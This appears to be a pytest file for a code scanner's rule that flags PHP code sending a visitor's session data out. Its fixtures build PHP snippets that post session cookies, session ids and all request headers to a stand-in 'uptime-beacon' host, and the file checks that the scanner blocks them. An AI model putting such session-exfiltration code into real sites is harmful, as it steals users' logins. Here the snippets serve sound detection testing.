"""A visitor's session sent out is a credential sent out, however the PHP code reaches it: the session
cookie by its name, a cookie named by a variable, the cookie array through `$GLOBALS` or
`filter_input_array`, the session id, every request header. A cookie named for a setting is not.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from scanner_support import blocking


def _beacon(value: str) -> str:
    return (
        "<?php\n"
        "$ch = curl_init('https://uptime-beacon.example.test/hit');\n"
        f"curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(['k' => {value}]));\n"
        "curl_exec($ch);\n"
    )


@pytest.mark.parametrize(
    "value",
    [
        "$_COOKIE['PHPSESSID']",
        "$_COOKIE['laravel_session']",
        "$_COOKIE['wordpress_logged_in_5c1f']",
        "$_COOKIE[session_name()]",
        "$_COOKIE[$name]",
        "$GLOBALS['_COOKIE']",
        "filter_input_array(INPUT_COOKIE)",
        "session_id()",
        "getallheaders()",
    ],
)
def test_a_visitors_session_sent_out_blocks(tmp_path: Path, value: str) -> None:
    assert "SY-FLOW-001" in blocking(tmp_path, {"beacon.php": _beacon(value)})


def test_a_cookie_named_for_a_setting_beside_an_api_call_still_passes(tmp_path: Path) -> None:
    php = (
        "<?php\n"
        "$lang = $_COOKIE['lang'] ?? 'en';\n"
        "$w = json_decode(file_get_contents('https://api.weather.example.test/v1/now?city=Oslo'), true);\n"
        "echo \"<p lang='$lang'>\" . htmlspecialchars($w['summary']) . '</p>';\n"
    )
    assert blocking(tmp_path, {"index.php": php}) == {}
